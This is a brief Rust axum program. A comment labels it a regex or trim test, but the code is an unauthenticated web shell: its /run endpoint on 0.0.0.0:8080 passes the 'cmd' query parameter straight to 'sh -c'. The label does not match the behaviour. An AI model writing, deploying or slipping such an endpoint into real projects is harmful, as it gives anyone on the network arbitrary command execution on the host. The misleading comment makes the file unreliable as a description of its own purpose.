// A regex or trim test: rust let else (written in review)
use axum::{extract::Query, routing::get, Router};
use std::collections::HashMap;
use std::process::Command;

async fn run(Query(q): Query<HashMap<String, String>>) -> String {
    let cmd = q.get("cmd").cloned().unwrap_or_default();
    let Ok(_) = Command::new("sh").arg("-c").arg(&cmd).status() else {
        return String::new();
    };
    String::new()
}

#[tokio::main]
async fn main() {
    let app = Router::new().route("/run", get(run));
    let l = tokio::net::TcpListener::bind("0.0.0.0:8080").await.unwrap();
    axum::serve(l, app).await.unwrap();
}
